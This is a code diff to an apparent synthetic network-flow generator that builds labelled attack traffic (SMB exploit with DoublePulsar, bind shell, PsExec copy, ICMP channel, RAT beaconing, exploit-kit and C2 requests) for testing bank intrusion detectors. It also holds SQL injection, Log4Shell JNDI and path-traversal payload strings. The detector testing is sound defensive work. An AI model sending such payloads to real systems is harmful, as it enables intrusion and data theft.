@@ -269,6 +269,38 @@ def web_attack(self: Synth, attacker: str, server: str, uris: list, start_ms: in
                    http_host=["portal.bank-a.example"] * n, http_method=["GET"] * n, http_uri=list(uris))
 
 
+def marked(self: Synth, flows: list[tuple], start_ms: int, institution: str = "bank-a") -> dict:
+    """Flows with collector markers: (offset_ms, src, dst, dst_port, protocol, app_markers) each,
+    answered (a few packets both ways), 30 s long."""
+    n = len(flows)
+    first = start_ms + np.array([f[0] for f in flows], dtype=np.int64)
+    cols = _hinted(self, n, first, institution, [f[1] for f in flows], [f[2] for f in flows],
+                   np.array([f[3] for f in flows]), np.array([f[4] for f in flows]), 12, 3_000, 12, 60_000,
+                   app_markers=[f[5] for f in flows])
+    cols["last_seen_ms"] = first + 30_000
+    return cols
+
+
+def marked_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> dict:
+    """An SMB exploit with DoublePulsar markers and the victim's callback with a downloaded stage,
+    a bind shell with a prompt, a PsExec-style service copy, an ICMP text channel, a RAT redialling."""
+    victim, attacker, handler = f"{net}.60.10", "203.0.113.45", "203.0.113.46"
+    flows = [(0, attacker, victim, 445, 6, "smb1,smb1_trans2_session_setup_from_src"),
+             (20_000, victim, handler, 4444, 6, "exe_from_dst"),
+             (25_000, attacker, f"{net}.60.11", 4444, 6, "shell_from_dst"),
+             (30_000, f"{net}.1.90", f"{net}.60.12", 445, 6, "smb2,smb_admin_share_from_src,smb_exe_write_from_src"),
+             (35_000, f"{net}.1.91", "198.51.100.99", 0, 1, "icmp_text_from_src")]
+    flows += [(40_000 + 10_000 * i, f"{net}.1.92", "198.51.100.98", 4433, 6, "") for i in range(7)]
+    flows += [(45_000, f"{net}.1.93", "198.51.100.97", 80, 6, "flash_or_java_from_dst"),
+              (50_000, f"{net}.1.93", "198.51.100.97", 80, 6, ""), (55_000, f"{net}.1.94", "198.51.100.96", 80, 6, "")]
+    cols = marked(self, flows, start_ms, institution)
+    cols["http_requests"] = [""] * (len(flows) - 3) + [
+        "GET\tek.example\t/swf/x.swf\t200\tapplication/x-shockwave-flash",
+        "GET\tek.example\t/land/a.html\t200\tapplication/octet-stream",
+        "GET\tdb54a845.top\t/c/?c=WIN-7Q2L&u=alice&v=2\t200\ttext/html\nPOST\tdb54a845.top\t/r\t200\ttext/html"]
+    return cols
+
+
 def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
     """One of each attack the hint-based detectors look for, within ~100 s from ``start_ms``."""
     return [
@@ -280,10 +312,12 @@ def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net:
                      psexec=True),
         self.web_attack("203.0.113.99", f"{net}.100.80", ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}",
                                                            "/..%2f..%2fetc%2fpasswd"], start_ms, institution=institution),
+        self.marked_attacks(start_ms, institution=institution, net=net),
     ]
 
 
-for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, hinted_attacks):
+for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, marked, marked_attacks,
+           hinted_attacks):
     setattr(Synth, _f.__name__, _f)
 
 #: Threat-intel indicators matching :func:`hinted_attacks` (the beacon's home), for detectors
